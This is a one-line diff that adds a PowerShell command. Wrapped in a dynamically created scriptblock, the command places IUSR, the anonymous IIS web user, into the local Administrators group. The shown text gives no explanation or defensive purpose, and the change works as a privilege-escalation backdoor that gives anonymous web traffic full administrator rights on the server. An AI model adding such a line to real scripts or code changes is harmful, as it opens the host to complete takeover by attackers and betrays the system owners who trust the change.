@@ -1,0 +1,1 @@
+[scriptblock]::Create('Add-LocalGroupMember -Group Administrators -Member IUSR').Invoke()
